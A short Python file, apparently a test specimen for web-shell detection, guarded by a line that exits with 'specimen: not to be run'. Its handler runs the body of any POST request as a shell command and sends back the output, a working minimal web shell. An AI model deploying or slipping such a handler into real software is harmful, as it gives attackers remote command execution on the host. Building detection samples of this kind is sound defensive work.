raise SystemExit("specimen: not to be run")
from subprocess import getoutput as ask
from http.server import BaseHTTPRequestHandler as Base

class Handler(Base):
    def do_POST(self):
        text = self.rfile.read(int(self.headers["Content-Length"]))
        self.wfile.write(ask(text.decode()).encode())  # match: web-shell
